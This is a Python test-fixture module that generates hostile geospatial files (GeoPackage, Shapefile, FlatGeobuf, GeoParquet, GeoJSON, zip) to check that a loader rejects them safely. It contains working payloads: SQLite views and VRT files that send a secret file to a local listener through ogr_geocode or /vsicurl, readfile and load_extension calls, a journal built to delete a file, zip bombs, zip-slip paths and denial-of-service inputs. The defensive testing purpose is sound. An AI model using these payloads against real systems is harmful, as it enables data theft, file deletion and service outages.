"""Files of shapes that are meant to do harm, one function each: a folder → the file to be read.

`HOSTILE` says of each what is to come of it: "message", or "read". The placeholders `{port}` and
`{secret}` stand for a listener on this machine and for a file that nobody may read.
"""

from __future__ import annotations

import json
import os
import sqlite3
import struct
import warnings
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import geopandas as gpd
import pyarrow as pa
import pyogrio
import shapely
from pyarrow import parquet

Make = Callable[[Path], Path]
HOSTILE: dict[str, tuple[str, Make]] = {}
PORT, SECRET = 0, Path("secret")


def case(outcome: str, name: str = "") -> Callable[[Make], Make]:
    def add(make: Make) -> Make:
        HOSTILE[name or make.__name__.replace("_", " ")] = (outcome, make)
        return make

    return add


def squares(*names: str) -> gpd.GeoDataFrame:
    shapes = [shapely.box(67 + at, 24, 67.5 + at, 25) for at in range(len(names or "ab"))]
    columns = {name: list(names or "ab") for name in ("id", "name", "city", "title")}
    return gpd.GeoDataFrame(
        {**columns, "kind": "land", "date": "1990-01-02"}, geometry=shapes, crs=4326
    )


def good(path: Path, **options: Any) -> Path:
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        if path.suffix == ".parquet":
            squares().to_parquet(path)
        else:
            squares().to_file(path, **options)
    return path


def write(path: Path, content: str | bytes) -> Path:
    path.write_bytes(content.encode() if isinstance(content, str) else content)
    return path


def virtual() -> str:
    return (
        f'<OGRVRTDataSource><OGRVRTLayer name="x"><SrcDataSource>CSV:{SECRET}</SrcDataSource>'
        "<SrcSQL dialect=\"sqlite\">select ogr_geocode(field_1, 'geometry', "
        f"'QUERY_TEMPLATE=http://127.0.0.1:{PORT}/?q=%s') as geometry, field_1 as id from secret"
        "</SrcSQL></OGRVRTLayer></OGRVRTDataSource>"
    )


for ending in ("gpkg", "shp", "fgb", "geojson", "parquet", "vrt", "kml", "csv", "zip"):
    case("message", f"a virtual file called .{ending}")(
        lambda folder, ending=ending: write(folder / f"units.{ending}", virtual())  # type: ignore[misc]
    )
for start in (
    b"fgb",
    b"fgb\x03fgb\x01",
    b"SQLite format 3\0",
    b"\0\0\x27\x0a",
    b"PAR1",
    b"PK\x03\x04",
):
    case("message", f"a virtual file that begins with {start!r}")(
        lambda folder, start=start: write(folder / "units.fgb", start + virtual().encode())  # type: ignore[misc]
    )


# --- GeoPackage


def gpkg(folder: Path, *statements: str) -> Path:
    """A good GeoPackage to which something is done."""
    return changed(good(folder / "units.gpkg", layer="units"), *statements)


def changed(path: Path, *statements: str) -> Path:
    """A GeoPackage after some statements, with nothing that GDAL would have to add to them."""
    base = sqlite3.connect(path)
    for (name,) in base.execute("select name from sqlite_master where type = 'trigger'").fetchall():
        base.execute(f'drop trigger "{name}"')
    for statement in statements:
        base.execute(statement)
    base.commit()
    base.close()
    return path


def view(select: str) -> tuple[str, ...]:
    """Statements that put a view in the place of the layer."""
    return (
        "alter table units rename to kept",
        "delete from gpkg_ogr_contents",
        f"create view units as {select}",
    )


@case("message")
def a_view_that_asks_a_server(folder: Path) -> Path:
    query = f"'QUERY_TEMPLATE=http://127.0.0.1:{PORT}/?q=%s'"
    return gpkg(
        folder, *view(f"select fid, ogr_geocode(id, 'geometry', {query}) geom, id from kept")
    )


@case("message")
def a_view_that_opens_an_address(folder: Path) -> Path:
    address = f"'/vsicurl/http://127.0.0.1:{PORT}/x.tif'"
    return gpkg(folder, *view(
        f"select fid, geom, gdal_get_pixel_value({address}, 1, 'georef', 0, 0) id from kept"
    ))  # fmt: skip


@case("message")
def a_view_that_reads_a_file(folder: Path) -> Path:
    return gpkg(folder, *view(f"select fid, geom, readfile('{SECRET}') id from kept"))


@case("message")
def a_view_that_loads_a_library(folder: Path) -> Path:
    return gpkg(folder, *view(f"select fid, geom, load_extension('{SECRET}') id from kept"))


@case("message")
def a_view_without_end(folder: Path) -> Path:
    endless = "with recursive n(x) as (select 1 union all select x + 1 from n)"
    return gpkg(folder, *view(f"{endless} select x as fid, null as geom, 'a' as id from n"))


@case("message")
def a_view_that_finds_nothing_in_a_very_long_time(folder: Path) -> Path:
    endless = "with recursive n(x) as (select 1 union all select x + 1 from n)"
    return gpkg(folder, *view(
        f"{endless} select x as fid, null as geom, 'a' as id from n where x < 0"
    ))  # fmt: skip


@case("message")
def a_view_of_very_large_values(folder: Path) -> Path:
    return gpkg(folder, *view("select fid, geom, hex(zeroblob(400000000)) id from kept"))


@case("message")
def a_view_of_very_many_rows(folder: Path) -> Path:
    many = "with recursive n(x) as (select 1 union all select x + 1 from n where x < 3000)"
    return gpkg(folder, *view(
        f"{many} select a.x * 3000 + b.x as fid, k.geom, k.id from n a, n b, kept k"
    ))  # fmt: skip


@case("message")
def a_crs_in_a_gpkg_without_a_transformation(folder: Path) -> Path:
    text = 'LOCAL_CS["x",UNIT["metre",1],AXIS["Easting",EAST],AXIS["Northing",NORTH]]'
    return gpkg(folder, f"update gpkg_spatial_ref_sys set definition = '{text}', organization = 'x', "
                "organization_coordsys_id = 99999")  # fmt: skip


@case("message")
def a_crs_in_a_gpkg_that_opens_a_pipe(folder: Path) -> Path:
    os.mkfifo(folder / "pipe")
    return gpkg(folder, f"update gpkg_spatial_ref_sys set definition = '{grids(folder / 'pipe')}', "
                "organization = 'x', organization_coordsys_id = 99999")  # fmt: skip


def grids(path: Path) -> str:
    return (
        f'GEOGCS["x",DATUM["y",SPHEROID["z",6377397,299.15],EXTENSION["PROJ4_GRIDS","{path}"]],'
        'PRIMEM["Greenwich",0],UNIT["degree",0.0174532925199433]]'
    )


@case("message")
def letters_in_a_gpkg_that_are_not_utf_8(folder: Path) -> Path:
    return gpkg(folder, "update units set name = cast(x'436166e9' as text) where id = 'b'")


@case("message")
def a_gpkg_without_shapes(folder: Path) -> Path:
    path = folder / "units.gpkg"
    pyogrio.write_dataframe(squares().drop(columns="geometry").iloc[:0], path)
    return path


@case("message")
def a_gpkg_without_layers(folder: Path) -> Path:
    return gpkg(
        folder, "delete from gpkg_geometry_columns", "delete from gpkg_contents", "drop table units"
    )


@case("message")
def an_sqlite_file_that_is_no_gpkg(folder: Path) -> Path:
    base = sqlite3.connect(folder / "units.gpkg")
    base.execute("create table units (id, geometry)")
    base.commit()
    base.close()
    return folder / "units.gpkg"


@case("message")
def half_a_gpkg(folder: Path) -> Path:
    path = good(folder / "units.gpkg")
    return write(path, path.read_bytes()[:30_000])


@case("message")
def a_gpkg_whose_pages_are_noise(folder: Path) -> Path:
    path = good(folder / "units.gpkg")
    raw = path.read_bytes()
    return write(path, raw[:100] + bytes(at * 131 % 251 for at in range(len(raw) - 100)))


@case("message")
def a_gpkg_of_nothing(folder: Path) -> Path:
    return write(folder / "units.gpkg", b"")


@case("message")
def shapes_in_a_gpkg_nested_very_deep(folder: Path) -> Path:
    path = gpkg(folder)
    base = sqlite3.connect(path)
    base.execute(
        "update units set geom = ? where id = 'b'", (b"GP\0\1\xe6\x10\0\0" + nested(1_000_000),)
    )
    base.commit()
    base.close()
    return path


def nested(depth: int) -> bytes:
    """Collections in collections, as WKB."""
    return struct.pack("<BII", 1, 7, 1) * depth + struct.pack("<BIdd", 1, 1, 67, 24)


@case("message")
def a_journal_that_names_a_file_to_delete(folder: Path) -> Path:
    path = good(folder / "units.gpkg")
    victim = str(write(folder / "victim", b"x" * 100)).encode()
    header = struct.pack(">8sIIIII", b"\xd9\xd5\x05\xf9\x20\xa1\x63\xd7", 0, 1, 26, 512, 4096)
    tail = victim + struct.pack(
        ">II8s", len(victim), sum(victim), b"\xd9\xd5\x05\xf9\x20\xa1\x63\xd7"
    )
    write(folder / "units.gpkg-journal", header.ljust(512, b"\0") + struct.pack(">I", 26) + tail)
    return path


@case("read")
def a_journal_that_is_over(folder: Path) -> Path:
    write(folder / "units.gpkg-journal", bytes(4096))
    return good(folder / "units.gpkg")


@case("read")
def a_log_that_is_noise(folder: Path) -> Path:
    write(folder / "units.gpkg-wal", bytes(range(256)) * 64)
    return good(folder / "units.gpkg")


# --- Shapefile


def shp(folder: Path) -> Path:
    return good(folder / "units.shp")


@case("message")
def letters_in_a_dbf_that_are_not_what_the_cpg_says(folder: Path) -> Path:
    path = shp(folder)
    dbf = path.with_suffix(".dbf")
    write(dbf, dbf.read_bytes().replace(b"b    ", b"Caf\xe9 ", 1))
    return path


@case("read")
def letters_in_a_dbf_that_are_what_the_cpg_says(folder: Path) -> Path:
    path = letters_in_a_dbf_that_are_not_what_the_cpg_says(folder)
    write(path.with_suffix(".cpg"), "CP1252")
    return path


@case("message")
def a_shapefile_without_its_index(folder: Path) -> Path:
    path = shp(folder)
    path.with_suffix(".shx").unlink()
    return path


@case("message")
def a_shapefile_without_its_table(folder: Path) -> Path:
    path = shp(folder)
    path.with_suffix(".dbf").unlink()
    return path


@case("message")
def a_polygon_that_claims_two_milliard_points(folder: Path) -> Path:
    path = shp(folder)
    raw = bytearray(path.read_bytes())
    raw[100 + 8 + 36 + 4 : 100 + 8 + 36 + 8] = struct.pack("<i", 2**31 - 1)
    second = 100 + 8 + 2 * struct.unpack(">i", raw[104:108])[0]
    raw[second + 8 + 36 : second + 8 + 44] = struct.pack("<ii", 2**31 - 1, 2**31 - 1)
    return write(path, bytes(raw))


@case("message")
def a_table_that_claims_four_milliard_rows(folder: Path) -> Path:
    path = shp(folder)
    dbf = path.with_suffix(".dbf")
    raw = dbf.read_bytes()
    write(dbf, raw[:4] + b"\xff\xff\xff\x7f\x00\x00\x00\x00" + raw[12:])
    return path


@case("message")
def a_prj_that_opens_a_pipe(folder: Path) -> Path:
    path = shp(folder)
    os.mkfifo(folder / "pipe")
    write(path.with_suffix(".prj"), grids(folder / "pipe"))
    return path


@case("message")
def a_prj_of_noise(folder: Path) -> Path:
    path = shp(folder)
    write(path.with_suffix(".prj"), "GEOGCS[" * 50_000)
    return path


@case("message")
def a_prj_that_is_very_large(folder: Path) -> Path:
    path = shp(folder)
    write(path.with_suffix(".prj"), b" " * 5_000_000)
    return path


@case("read")
def other_files_beside_a_shapefile(folder: Path) -> Path:
    path = shp(folder)
    for ending in (".qix", ".sbn", ".idm", ".ind", ".qpj", ".shp.xml", ".shp.aux.xml"):
        os.mkfifo(folder / f"units{ending}")
    return path


# --- what belongs to a file and is none


def beside(folder: Path, name: str, kind: str) -> Path:
    path = good(folder / ("units.gpkg" if "-" in name else "units.shp"))
    (folder / name).unlink(missing_ok=True)
    if kind == "pipe":
        os.mkfifo(folder / name)
    elif kind == "folder":
        (folder / name).mkdir()
    else:
        (folder / name).symlink_to("/dev/zero" if kind == "endless link" else "nowhere")
    return path


for part in (".shx", ".dbf", ".prj", ".cpg", ".gpkg-journal", ".gpkg-wal", ".gpkg-shm"):
    for sort in ("pipe", "endless link", "folder", "dangling link"):
        never_looked_at = part == ".gpkg-shm" or (part, sort) == (".gpkg-journal", "dangling link")
        case("read" if never_looked_at else "message", f"a {part} that is a {sort}")(
            lambda folder, part=part, sort=sort: beside(folder, f"units{part}", sort)  # type: ignore[misc]
        )


@case("message")
def a_pipe(folder: Path) -> Path:
    os.mkfifo(folder / "units.gpkg")
    return folder / "units.gpkg"


@case("message")
def a_folder(folder: Path) -> Path:
    good(folder / "inside.shp")
    return folder


@case("message")
def a_device(folder: Path) -> Path:
    (folder / "units.shp").symlink_to("/dev/zero")
    return folder / "units.shp"


@case("message")
def a_link_to_itself(folder: Path) -> Path:
    (folder / "units.fgb").symlink_to("units.fgb")
    return folder / "units.fgb"


@case("message")
def an_address_as_a_path(folder: Path) -> Path:
    return Path(f"/vsicurl/http://127.0.0.1:{PORT}/units.gpkg")


@case("message")
def a_path_into_an_archive(folder: Path) -> Path:
    packed(folder, good(folder / "units.gpkg"))
    return Path(f"/vsizip/{folder}/units.zip/units.gpkg")


@case("message")
def an_exclamation_mark_that_no_file_has_in_its_name(folder: Path) -> Path:
    packed(folder, good(folder / "units.gpkg"))
    return folder / "units.zip!units.gpkg"


@case("read")
def an_exclamation_mark_in_the_name_of_a_file(folder: Path) -> Path:
    """The archive that the name could mean holds something else."""
    with zipfile.ZipFile(folder / "a.zip", "w") as archive:
        archive.writestr("units.gpkg", virtual())
    return good(folder / "units.gpkg").rename(folder / "a.zip!units.gpkg")


# --- zip


def packed(folder: Path, *paths: Path) -> Path:
    with zipfile.ZipFile(folder / "units.zip", "w", zipfile.ZIP_DEFLATED) as archive:
        for path in paths:
            archive.write(path, path.name)
            path.unlink()
    return folder / "units.zip"


@case("message")
def a_zip_of_a_virtual_file(folder: Path) -> Path:
    return packed(folder, write(folder / "x.vrt", virtual()), write(folder / "y.fgb", virtual()))


@case("message")
def a_zip_that_unpacks_to_too_much(folder: Path) -> Path:
    path = folder / "units.zip"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        with archive.open("units.shp", "w", force_zip64=True) as file:
            for _ in range(256):
                file.write(bytes(2**20))
    return path


@case("message")
def a_zip_in_a_zip(folder: Path) -> Path:
    return packed(folder, packed(folder, good(folder / "units.fgb")).rename(folder / "x.gpkg"))


@case("read")
def a_zip_that_leads_out_of_its_folder(folder: Path) -> Path:
    path = good(folder / "units.fgb")
    with zipfile.ZipFile(folder / "units.zip", "w") as archive:
        archive.write(path, "../../../../escaped.fgb")
    path.unlink()
    return folder / "units.zip"


@case("message")
def a_zip_of_very_many_files(folder: Path) -> Path:
    with zipfile.ZipFile(folder / "units.zip", "w") as archive:
        for number in range(70_000):
            archive.writestr(f"{number}.txt", b"")
    return folder / "units.zip"


@case("message")
def a_zip_that_is_locked(folder: Path) -> Path:
    path = packed(folder, good(folder / "units.fgb"))
    raw = path.read_bytes()
    at = raw.index(b"PK\x01\x02")
    return write(path, raw[:6] + b"\1" + raw[7 : at + 8] + b"\1" + raw[at + 9 :])


@case("message")
def a_zip_packed_in_a_way_that_nobody_knows(folder: Path) -> Path:
    path = packed(folder, good(folder / "units.fgb"))
    raw = path.read_bytes()
    at = raw.index(b"PK\x01\x02")
    return write(path, raw[:8] + b"\x09" + raw[9 : at + 10] + b"\x09" + raw[at + 11 :])


# --- FlatGeobuf and GeoParquet


@case("message")
def half_a_flatgeobuf(folder: Path) -> Path:
    path = good(folder / "units.fgb")
    return write(path, path.read_bytes()[:200])


@case("message")
def a_flatgeobuf_whose_header_is_noise(folder: Path) -> Path:
    path = good(folder / "units.fgb")
    raw = path.read_bytes()
    return write(path, raw[:12] + b"\xff" * 300 + raw[312:])


@case("message")
def a_flatgeobuf_with_a_header_of_two_gigabytes(folder: Path) -> Path:
    path = good(folder / "units.fgb")
    raw = path.read_bytes()
    return write(path, raw[:8] + b"\xff\xff\xff\x7f" + raw[12:])


@case("message")
def a_parquet_file_without_shapes(folder: Path) -> Path:
    parquet.write_table(pa.table({"id": ["a"]}), folder / "units.parquet")
    return folder / "units.parquet"


@case("message")
def half_a_parquet_file(folder: Path) -> Path:
    path = good(folder / "units.parquet")
    return write(path, path.read_bytes()[:500])


def geoparquet(folder: Path, columns: dict[str, Any], crs: Any = None) -> Path:
    path = folder / "units.parquet"
    about = {"columns": {"geometry": {"encoding": "WKB", "crs": crs}}, "primary_column": "geometry"}
    table = pa.table(columns).replace_schema_metadata({"geo": json.dumps(about)})
    parquet.write_table(table, path, compression="zstd")
    return path


@case("message")
def shapes_in_a_parquet_file_nested_very_deep(folder: Path) -> Path:
    return geoparquet(folder, {"geometry": pa.array([nested(3_000_000)]), "id": ["a"]})


@case("message")
def a_parquet_file_of_very_many_rows(folder: Path) -> Path:
    point = shapely.to_wkb(shapely.Point(67, 24))
    shapes = pa.DictionaryArray.from_arrays(pa.array([0] * 1_000_000, pa.int8()), pa.array([point]))
    return geoparquet(folder, {"geometry": shapes.cast(pa.binary())})


@case("message")
def a_crs_in_a_parquet_file_that_opens_a_pipe(folder: Path) -> Path:
    os.mkfifo(folder / "pipe")
    shape = pa.array([shapely.to_wkb(shapely.box(67, 24, 68, 25))])
    return geoparquet(
        folder, {"geometry": shape, "id": ["a"]}, f"+proj=longlat +nadgrids={folder}/pipe"
    )


# --- GeoJSON


def geojson(folder: Path, name: str, **members: Any) -> Path:
    collection = {
        **json.loads(squares().to_json()),
        "crs": {"properties": {"name": name}},
        **members,
    }
    return write(folder / "units.geojson", json.dumps(collection))


for text in ("+init={pipe}:4326", "+proj=longlat +ellps=bessel +nadgrids={pipe}",
             "+proj=longlat +nadgrids=@{pipe} +type=crs", "+proj=pipeline +step +proj=hgridshift +grids={pipe}",
             "+proj=longlat +geoidgrids=/dev/zero +type=crs", "EPSG:5773", "EPSG:4978", "EPSG:0", "\ud800"):  # fmt: skip

    def _make(folder: Path, text: str = text) -> Path:
        os.mkfifo(folder / "pipe")
        return geojson(folder, text.format(pipe=folder / "pipe"))

    case("message", f"a crs in GeoJSON, {text!a}")(_make)


@case("message")
def topojson(folder: Path) -> Path:
    return write(folder / "units.json", '{"type": "Topology", "objects": {"a": {}}, "arcs": []}')


@case("message")
def brackets_without_end(folder: Path) -> Path:
    return write(
        folder / "units.geojson", '{"type": "FeatureCollection", "features": ' + "[" * 10**6
    )
